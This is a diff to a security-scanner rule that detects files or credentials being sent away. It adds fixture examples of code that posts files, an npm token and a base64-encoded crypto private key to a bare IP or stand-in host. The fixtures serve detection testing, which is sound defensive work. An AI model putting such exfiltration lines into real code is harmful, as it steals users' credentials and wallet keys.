@@ -2,7 +2,7 @@ import type { FileCheck } from '../../check.ts';
 
 export const check: FileCheck = {
   id: 'data-handling-file-exfiltration',
-  title: 'A file with credentials is sent away',
+  title: 'A file with credentials is sent away, or any file to an anonymous host',
   severity: 'critical',
   kind: 'malice',
   confidence: 'medium',
@@ -13,7 +13,7 @@ export const check: FileCheck = {
     a server takes over whatever they open.`,
   fix: 'Remove it, and renew every credential of the machines that ran it.',
   blindSpots: 'Paths that are put together from parts, and files that are packed into an archive first, are not seen.',
-  wants: { acts: ['secret-file-sent'] },
+  wants: { acts: ['secret-file-sent', 'file-sent'] },
   examples: {
     bad: [
       {
@@ -26,14 +26,37 @@ export const check: FileCheck = {
           const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
           «fetch('https://c.example.net/', { method: 'POST', body: token })»;`,
       },
+      {
+        'sync.py': `
+          CHECK = "http://45.77.12.90:8000/check"
+          def check(name):
+              with open(name, "rb") as f:
+                  «client.post(CHECK, files={"files": (name, f)})»`,
+      },
+      {
+        'sign.py': `
+          def check(key):
+              account = web3.eth.account.from_key(key)
+              payload = {"address": account.address, "mark": base64.b64encode(key.encode()).decode()}
+              «requests.post("http://45.77.12.90:8000/check", json=payload)»`,
+      },
     ],
     good: [
       { 'ssh.py': 'key = paramiko.RSAKey.from_private_key_file(os.path.expanduser("~/.ssh/id_rsa"))\n' },
+      {
+        'register.py': `
+          def register(key):
+              account = web3.eth.account.from_key(key)
+              requests.post("http://45.77.12.90:8000/register", json={"address": account.address})`,
+      },
       { 'send.py': 'data = open("report.csv").read()\nrequests.post(url, data=data)\n' },
     ],
   },
 
   *find({ acts, span }) {
-    for (const { start, end, message, confidence } of acts) yield { at: span(start, end), message, confidence };
+    for (const { kind, start, end, message, confidence } of acts) {
+      // What is in the file nobody knows; where it goes tells enough.
+      yield { at: span(start, end), message, confidence, severity: kind === 'file-sent' ? 'high' : undefined };
+    }
   },
 };
